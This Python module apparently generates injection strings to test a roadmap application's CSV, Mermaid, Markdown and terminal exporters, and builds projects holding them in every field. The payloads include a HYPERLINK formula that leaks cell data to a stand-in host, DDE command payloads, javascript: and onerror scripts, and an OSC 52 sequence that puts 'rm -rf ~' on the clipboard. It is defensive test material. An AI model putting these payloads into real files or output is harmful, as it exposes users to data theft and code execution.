"""A generator of hostile strings for what we send to other programs, and projects that carry them everywhere.

Four families, one per reader: spreadsheets (CSV formula injection), Mermaid (directives, comments,
keywords, callbacks), Markdown renderers (links, images, HTML, code, block marks, autolinks) and
terminals (C0/C1 controls, CSI, OSC 0/8/52 ended by BEL or ST, bidi overrides). ``hostile_project``
puts one string into every text field, list, mapping name, lane name and id of a project;
``corpus_project`` puts every string of a family into one project, one entity each.
"""

from __future__ import annotations

import datetime as dt
import itertools

from roadmap_desktop.domain.project import Project
from roadmap_desktop.domain.requirement import Requirement
from roadmap_desktop.domain.risk import Risk
from roadmap_desktop.domain.timeline import Lane, TimelineItem

# -- spreadsheets ---------------------------------------------------------------------------------

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
FORMULA_PAYLOADS = (
    'HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "cmd|' /C calc'!A0",
    "1+1",
    "SUM(1+1)*cmd|' /C calc'!A0",
)
# What a spreadsheet may skip or trim before it looks at the first character.
LEADING = ("", " ", "   ", "\u00a0", "\u3000", "\n", "\r\n", "'", "''", "\u200b", "\ufeff", "\x00")


def csv_injections() -> list[str]:
    out = [prefix + payload for prefix in FORMULA_PREFIXES for payload in FORMULA_PAYLOADS[:2]]
    out += [lead + prefix + FORMULA_PAYLOADS[2] for lead in LEADING[1:] for prefix in ("=", "@", "＝", "-")]
    out += [
        'DDE("cmd";"/C calc";"!A0")',  # harmless on its own: must not be guarded needlessly
        '"=1+1"',
        "-5",  # a negative number written as text
        "=",
        "'",
        "''=1+1",
        "\t",
        "plain text; = not at the start",
    ]
    return out


# -- Mermaid --------------------------------------------------------------------------------------

MERMAID_KEYWORDS = (
    "gantt",
    "title",
    "section",
    "dateFormat",
    "axisFormat",
    "tickInterval",
    "includes",
    "excludes",
    "todayMarker",
    "weekday",
    "inclusiveEndDates",
    "topAxis",
    "accTitle",
    "accDescr",
    "accDescription",
    "click",
    "call",
    "href",
)


def mermaid_injections() -> list[str]:
    out = ['%%{init: {"theme": "dark", "securityLevel": "loose"}}%%', "x %%{init: {'theme':'forest'}}%%"]
    out += ["}%%", "%% comment", "50% done", "%", "a: b", "#comment", "a # b", "a; b", "a;b:c#d%e"]
    out += [kw for kw in MERMAID_KEYWORDS] + [kw.upper() + " x" for kw in MERMAID_KEYWORDS]
    out += [kw + " evil" for kw in MERMAID_KEYWORDS]
    out += [
        'click t000000 call alert("x")',
        'click t000000 href "javascript:alert(1)"',
        "call alert()",
        'href "javascript:alert(1)"',
        "accDescr { multi\nline }",
        "accTitle: stolen",
        "2024-01-01 launch",
        "weekday monday",
        "name\nclick t000000 call alert(1)",
        "name\r\nsection injected",
        "---\nconfig:\n  theme: dark\n---",
        "<img src=x onerror=alert(1)>",
        "<b>bold</b><br/>",
        "#lt;script#gt;alert(1)#lt;/script#gt;",
        "`markdown string`",
        '"quoted"',
        "{braces}",
    ]
    return out


# -- Markdown -------------------------------------------------------------------------------------


def markdown_injections() -> list[str]:
    return [
        "[x](javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x]( javascript:alert(1) 'title')",
        "![](http://evil.example/beacon.png)",
        "![alt][ref]\n\n[ref]: http://evil.example/beacon.png",
        '[ref]: http://evil.example "t"',
        "[^1]\n\n[^1]: a footnote",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">y</a>',
        "<!-- hidden -->",
        "<http://evil.example>",
        "<evil@example.com>",
        "http://evil.example/x",
        "see https://evil.example/x.",
        "ftp://evil.example",
        "www.evil.example",
        "WWW.EVIL.EXAMPLE",
        "mail evil@example.com now",
        "```",
        "```js\nalert(1)\n```",
        "~~~\ncode\n~~~",
        "`code`",
        "first\n\n    indented code",
        "\tindented by a tab",
        "Title\n===",
        "Title\n---",
        "Title\n=",
        "# heading",
        "###### h6",
        "#",
        "> quote",
        "> [!WARNING]\n> alert",
        "- item",
        "* item",
        "+ item",
        "- [ ] task",
        "1. item",
        "1) item",
        "2024. a year",
        "***",
        "___",
        "- - -",
        "| a | b |\n|---|---|\n| c | d |",
        "a | b\n--|--",
        "a\\|b",
        "trailing backslash\\",
        "hard break\\\nnext",
        "&lt;script&gt;",
        "&#106;avascript:alert(1)",
        "&amp;",
        "**bold** _em_ ~~strike~~",
        "$x^2$ and $$\\href{javascript:alert(1)}{x}$$",
        "@someone and #123",
        # Left as written where inert (so ordinary titles read well); escaped where they would act.
        "closing #",
        "closing ## \t",
        "closing #\nnext line",
        "C# and F#",
        "snake_case__name, _em_ and a_*b*_c",
        "a\\_b_ c",
        "中_文_字 _强调_",
        "x@y.z, a.b+c@d-e.example and @team",
        "# # nested",
        "R&D & QA < 2 s",
        "&copy; &#x26; &AMP;",
        "<1@x.example> <=@x.example> <a:b>",
        "<br>",
        "line\u2028separator",
    ]


# -- terminals ------------------------------------------------------------------------------------


def terminal_injections() -> list[str]:
    return [
        "\x1b]0;pwned title\x07",
        "\x1b]0;pwned title\x1b\\",
        "\x1b]2;pwned title",  # unterminated
        "\x1b]52;c;cm0gLXJmIH4=\x07",  # OSC 52: write "rm -rf ~" to the clipboard
        "\x1b]52;c;cm0gLXJmIH4=\x1b\\",
        "\x1b]8;;http://evil.example\x07click me\x1b]8;;\x07",
        "\x1b[2J\x1b[H",
        "\x1b[31mred\x1b[0m",
        "\x1b[?1049h",
        "\x1b[6n",  # asks the terminal to type its cursor position
        "\x1b[21t",  # asks the terminal to type its title
        "\x1bP1000p%session-test\x1b\\",  # DCS
        "\x1b_APC payload\x1b\\",
        "\x1bc",  # full reset
        "\x1b(0",
        "\x1b",
        "\x9b2J",  # 8-bit CSI
        "\x9d0;pwned\x9c",  # 8-bit OSC ... ST
        "\x90DCS\x9c",
        "\x85next line",
        "bell\x07",
        "back\x08\x08\x08\x08over",
        "carriage\rreturn overwrites",
        "nul\x00byte",
        "del\x7fete",
        "vertical\x0btab\x0cform feed",
        "\x1c\x1d\x1e\x1f separators",
        "\u202eevil.exe\u202c",
        "\u2066isolate\u2069",
        "\u200fRLM \u200eLRM \u061cALM",
        "\u202a\u202b\u202d embeddings",
    ]


def all_injections() -> list[str]:
    """Every family together, each string once, in a stable order."""
    seen: dict[str, None] = {}
    for text in itertools.chain(csv_injections(), mermaid_injections(), markdown_injections(), terminal_injections()):
        seen.setdefault(text, None)
    return list(seen)


# -- projects -------------------------------------------------------------------------------------

START = dt.date(2024, 3, 4)


def hostile_project(text: str, language: str = "en") -> Project:
    """A project with ``text`` in every text field, list, mapping name, lane name and id.

    Ids start with ``text`` (made unique by a suffix; the ids a list points at without outer spaces
    and line breaks, as in a file that loads), so a cell that starts with an id starts with it too.
    Entities are linked to each other, so every link column and every "depends on" is filled. The
    values are those a crafted file would load as (coerced).
    """
    return corpus_project([text], language, name=text)


def corpus_project(texts: list[str], language: str = "en", name: str | None = None) -> Project:
    """One project holding every string of ``texts``: entity i of each kind carries ``texts[i]`` in all
    its fields (the project's own fields carry ``name``, default all of them joined)."""
    project = Project.new(name if name is not None else " ".join(texts), language)
    info = project.info
    joined = "\n".join(texts)
    info.description = info.brief = info.summary = joined
    info.domain = texts[0]
    info.criteria = {_key(text, n): 1.0 for n, text in enumerate(texts[:100])}  # at most 100 criteria
    project.lanes = [Lane(id=_id(text, "lane", n), name=text) for n, text in enumerate(texts)]
    items, risks, requirements = [], [], []
    for n, text in enumerate(texts):
        lane = project.lanes[n].id
        first = TimelineItem(
            id=_linked_id(text, "item", n),
            title=text,
            lane_id=lane,
            start=START,
            duration_days=3,
            owner=text,
            notes=text,
        )
        second = TimelineItem(
            id=_linked_id(text, "item-b", n),
            title=text,
            lane_id=lane,
            start=START + dt.timedelta(days=5),
            duration_days=2,
            milestone=n % 2 == 0,
            status="in_progress",
            owner=text,
            notes=text,
            depends_on=[first.id],
        )
        unplanned = TimelineItem(id=_id(text, "item-c", n), title=text, start=None, owner=text, depends_on=[first.id])
        items += [first, second, unplanned]
        risk = Risk(
            id=_linked_id(text, "risk", n),
            title=text,
            category=text,
            likelihood=1 + n % 5,
            impact=5 - n % 5,
            owner=text,
            description=text,
            mitigation=text,
            item_ids=[first.id],
        )
        risks.append(risk)
        requirements.append(
            Requirement(
                id=_id(text, "req", n),
                title=text,
                owner=text,
                effort=2,
                rice_reach=100 + n,
                rice_impact=1,
                rice_confidence=80,
                criteria_scores={_key(text, n): 3.0},
                tags=[text],
                description=text,
                acceptance_criteria=[text],
                target_users=[text],
                pain_points=[text],
                competitors=[text],
                llm_fit_reason=text,
                risk_ids=[risk.id],
                item_ids=[first.id, second.id],
            )
        )
    project.items, project.risks, project.requirements = items, risks, requirements
    for entity in [info, *project.lanes, *items, *risks, *requirements]:
        _fill_blank_required(entity)
    project.validate()
    return project


def _id(text: str, kind: str, n: int) -> str:
    return f"{text}#{kind}{n}"[-200:]


def _linked_id(text: str, kind: str, n: int) -> str:
    # A list of links keeps its entries on one line, so an id that a list points at has no line
    # breaks or outer spaces in a file that loads; the ids nothing points at keep them.
    return _id(" ".join(text.split()), kind, n)


def _key(text: str, n: int) -> str:
    # A mapping name is one line with a visible character; keep the hostile start where there is one.
    return (" ".join(text.split()) or "blank") + f" {n}"


def _fill_blank_required(entity: object) -> None:
    """A title or name that would load as empty (only spaces or line breaks) is refused by the file's
    rules; keep the string's hostile characters and add a visible one."""
    for spec in entity.FIELDS:  # type: ignore[attr-defined]
        value = getattr(entity, spec.name)
        if spec.required and isinstance(value, str) and not " ".join(value.split()):
            setattr(entity, spec.name, value + "x")
